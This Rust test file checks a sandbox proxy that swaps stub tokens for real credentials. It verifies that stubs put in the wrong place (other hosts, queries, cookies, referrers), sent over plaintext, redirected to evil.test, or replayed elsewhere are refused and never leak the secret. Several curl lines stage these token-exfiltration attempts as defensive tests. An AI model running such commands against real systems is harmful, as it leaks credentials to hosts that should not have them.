//! A stub anywhere but in its place: never the secret.

use anyhow::{Result, ensure};
use ersatz_tests::rig::{Node, Records, Settings, text};

/// Requests of `api.test` and others with a stub in the wrong place.
const MISUSES: &[(&str, &str, &str)] = &[
    (
        "to a host that is allowed but not its own",
        r#"-H "Authorization: Bearer $API_TOKEN" https://open.test/"#,
        "stub-wrong-host",
    ),
    (
        "to the host of another credential",
        r#"-H "Authorization: Bearer $API_TOKEN" https://models.test/"#,
        "stub-wrong-host",
    ),
    (
        "in a query",
        r#"-H "Accept: x" "https://api.test/?token=$API_TOKEN""#,
        "stub-misplaced",
    ),
    (
        "in a path",
        r#""https://api.test/by/$API_TOKEN/name""#,
        "stub-misplaced",
    ),
    (
        "in another header",
        r#"-H "X-Note: $API_TOKEN" https://api.test/"#,
        "stub-misplaced",
    ),
    (
        "in a cookie",
        r#"-H "Cookie: session=$API_TOKEN" https://api.test/"#,
        "stub-misplaced",
    ),
    (
        "as the user agent",
        r#"-A "$API_TOKEN" https://api.test/"#,
        "stub-misplaced",
    ),
    (
        "as the referrer of another host",
        r#"-e "https://x/$API_TOKEN" https://open.test/"#,
        "stub-wrong-host",
    ),
    (
        "as a password where a token belongs",
        r#"-u "agent:$API_TOKEN" https://api.test/"#,
        "stub-misplaced",
    ),
    (
        "as the user where a password belongs",
        r#"-u "$GIT_PASSWORD:x" https://git.test/"#,
        "stub-misplaced",
    ),
    (
        "as a bearer token where a key belongs",
        r#"-H "Authorization: Bearer $MODELS_KEY" https://models.test/"#,
        "stub-misplaced",
    ),
];

fn no_secret_in(records: &Records, node: &Node) {
    assert_eq!(node.secrets().find_in(records.to_string().as_bytes()), None);
}

#[test]
fn a_misplaced_stub_refuses_the_request() -> Result<()> {
    let node = Node::new()?;
    let daemon = node.daemon()?;
    for protocol in ["--http1.1", "--http2"] {
        for (case, arguments, reason) in MISUSES {
            let script = format!(
                r#"curl -sS --max-time 20 {protocol} -o /dev/null -D /dev/stderr -w "%{{http_code}}" {arguments}"#
            );
            let answer = node.shell(&script)?;
            let seen = answer.stderr.to_ascii_lowercase();
            ensure!(
                seen.contains(&format!("x-ersatz-reason: {reason}")),
                "{case}: {answer:?}"
            );
            ensure!(answer.stdout.starts_with('4'), "{case}: {answer:?}");
        }
    }
    let ledger = node.ledger()?;
    assert!(
        ledger.with(&[("kind", "request")]).is_empty(),
        "nothing was forwarded: {ledger}"
    );
    no_secret_in(&node.audit()?, &node);
    let misplaced = daemon.metric("ersatz_requests_total", &[r#"reason="stub-misplaced""#])?;
    let wrong_host = daemon.metric("ersatz_requests_total", &[r#"reason="stub-wrong-host""#])?;
    assert!(
        misplaced >= 16 && wrong_host >= 6,
        "{misplaced} {wrong_host}"
    );
    let audited = node
        .audit()?
        .with(&[("reason", "stub-misplaced"), ("verdict", "deny")]);
    assert!(audited.len() >= 16, "{audited}");
    Ok(())
}

#[test]
fn a_stub_in_a_body_stays_a_stub() -> Result<()> {
    let node = Node::new()?;
    let _daemon = node.daemon()?;
    let script = r#"echo $API_TOKEN
        curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" \
          -d "gist=$API_TOKEN" https://api.test/gists"#;
    let answer = node.shell(script)?.success()?;
    let stub = answer.lines().next().unwrap_or_default();
    let body = node.ledger()?.with(&[("kind", "body")]);
    assert_eq!(
        body.field("text"),
        [format!("gist={stub}")],
        "the server stored the stub"
    );
    no_secret_in(&body, &node);
    Ok(())
}

#[test]
fn a_stub_is_worthless_in_another_sandbox() -> Result<()> {
    let node = Node::new()?;
    let _daemon = node.daemon()?;
    let stolen = node.shell("echo $API_TOKEN")?.success()?;
    let script = format!(
        r#"curl -sS --max-time 20 -H "Authorization: Bearer {}" https://api.test/"#,
        stolen.trim()
    );
    let answer = node.shell(&script)?;
    assert!(!answer.stdout.contains("\"ok\":true"), "{answer:?}");
    no_secret_in(&node.ledger()?, &node);
    Ok(())
}

#[test]
fn two_authorization_headers_are_refused() -> Result<()> {
    let node = Node::new()?;
    let _daemon = node.daemon()?;
    let script = r#"curl -sS --max-time 20 -o /dev/null -w '%{http_code}' \
        -H "Authorization: Bearer $API_TOKEN" -H "authorization: Bearer other" https://api.test/"#;
    assert_eq!(node.shell(script)?.stdout, "400");
    assert!(node.ledger()?.with(&[("kind", "request")]).is_empty());
    Ok(())
}

#[test]
fn the_token_scheme_is_kept() -> Result<()> {
    let node = Node::new()?;
    let _daemon = node.daemon()?;
    node.shell(r#"curl -sS --max-time 20 -H "Authorization: token $API_TOKEN" https://api.test/"#)?;
    let ledger = node.ledger()?.with(&[("kind", "request")]);
    let wanted = format!("token {}", node.secrets().api);
    assert!(
        ledger.field("headers").concat().contains(&wanted),
        "{ledger}"
    );
    Ok(())
}

#[test]
fn a_redirect_takes_no_secret_along() -> Result<()> {
    let node = Node::new()?;
    let _daemon = node.daemon()?;
    let script = r#"for to in https://evil.test/ https://open.test/ http://api.test/ https://api.test:8443/; do
        curl -sS --max-time 20 -L --location-trusted -o /dev/null -w '%{http_code}\n' \
          -H "Authorization: Bearer $API_TOKEN" "https://api.test/redirect?to=$to"
        done; true"#;
    node.shell(script)?.success()?;
    for request in &node.ledger()?.with(&[("kind", "request")]) {
        assert_eq!(text(request, "sni"), "api.test", "{request}");
        assert!(text(request, "local").ends_with(":443"), "{request}");
    }
    Ok(())
}

#[test]
fn a_credential_never_goes_over_plaintext() -> Result<()> {
    let rules = "  - {hosts: [open.test], scheme: http}\n";
    let node = Node::with(Settings::default().allowing(rules))?;
    let _daemon = node.daemon()?;
    let own = r#"curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" http://api.test/"#;
    let answer = node.shell(own)?;
    assert!(
        !answer.stdout.contains("\"ok\":true"),
        "no rule allows plaintext to it: {answer:?}"
    );
    let other = own.replace("api.test/", "open.test/");
    let answer = node.shell(&other)?;
    assert!(
        answer.stdout.contains("stub-wrong-host") || answer.stdout.contains("plaintext-credential"),
        "{answer:?}"
    );
    assert!(node.ledger()?.with(&[("kind", "request")]).is_empty());
    let plain = node
        .shell("curl -sS --max-time 20 http://open.test/")?
        .success()?;
    assert!(plain.contains("\"ok\":true"), "{plain}");
    Ok(())
}
